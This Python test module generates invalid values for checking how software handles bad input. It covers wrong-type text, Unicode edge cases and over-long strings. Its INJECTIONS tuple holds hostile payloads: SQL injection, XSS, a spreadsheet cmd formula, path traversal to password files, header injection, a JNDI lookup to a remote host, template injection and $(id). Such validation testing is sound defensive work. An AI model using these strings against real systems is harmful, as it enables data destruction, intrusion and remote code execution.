"""Bad values, one at a time: each from the good value of its cell and 64 random bits."""

from __future__ import annotations

from typing import Final

WRONG_TYPE: Final = ("abc", "twelve", "not a value", "x1", "#VALUE!", "one two")
"""Text that is no number, no date and no truth value, of characters that no format treats (`engine.mixed.PLAIN`)."""

INJECTIONS: Final = (
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)--",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://example.com","open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "value\r\nX-Injected: 1",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "$(id)",
)
"""SQL, HTML, spreadsheet formulas, paths, header lines, and what templates and shells would carry out."""

_COMBINING: Final = "".join(map(chr, (0x0301, 0x0316, 0x0323, 0x0344)))
_EDGES: Final = (
    ("\u202e", "\u202c"),  # right to left, overridden and popped
    ("\u0645\u0631\u062d\u0628\u0627 ", ""),  # Arabic beside Latin letters
    ("\u200b", ""),  # zero width space
    ("", "\u200d"),  # zero width joiner
    ("\ufeff", ""),  # byte order mark
    ("", _COMBINING),
    ("", "\U0001f468\u200d\U0001f469\u200d\U0001f467"),  # a family, five code points
    ("\U0001d4d0", ""),  # a letter beyond the basic plane
    ("", "\u00a0"),  # no-break space
    ("", "\u2028"),  # line separator
)
EDGE_SIGNS: Final = frozenset("".join(before + after for before, after in _EDGES)) - {" "}
"""Each edge has one of these. U+0000 is not among them: CSV, SQL and XLSX have no way to write it."""


def wrong_type(good: object, bits: int) -> str:
    """Text where a number, a date or a truth value belongs."""
    return WRONG_TYPE[bits % len(WRONG_TYPE)]


def injection(good: object, bits: int) -> str:
    """What careless programs carry out."""
    return INJECTIONS[bits % len(INJECTIONS)]


def unicode_edge(good: str, bits: int) -> str:
    """The good text, with what programs that count characters or bytes trip over."""
    before, after = _EDGES[bits % len(_EDGES)]
    return f"{before}{good}{after}"


def too_long(good: str, limit: int, bits: int) -> str:
    """The good text over again, up to 20 characters more than ``limit``."""
    target = limit + 1 + bits % 20
    return (good * (target // len(good) + 1))[:target] if good else "x" * target
